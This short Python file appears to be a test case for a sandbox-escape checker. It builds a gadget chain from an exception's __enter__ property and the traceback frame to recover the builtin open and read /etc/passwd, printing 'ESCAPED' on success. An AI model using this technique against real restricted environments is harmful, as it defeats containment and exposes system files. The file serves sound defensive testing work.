# tries: the with statement calls a reader in C
# class: gadgets
# stops: 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


import functools
import operator

read = operator.attrgetter("__traceback__.tb_frame")


class E(Exception):
    __enter__ = property(lambda self: functools.partial(read, self))

    def __exit__(self, *why):
        return None


try:
    raise E
except E as error:
    with error as frame:
        use(pick(frame))
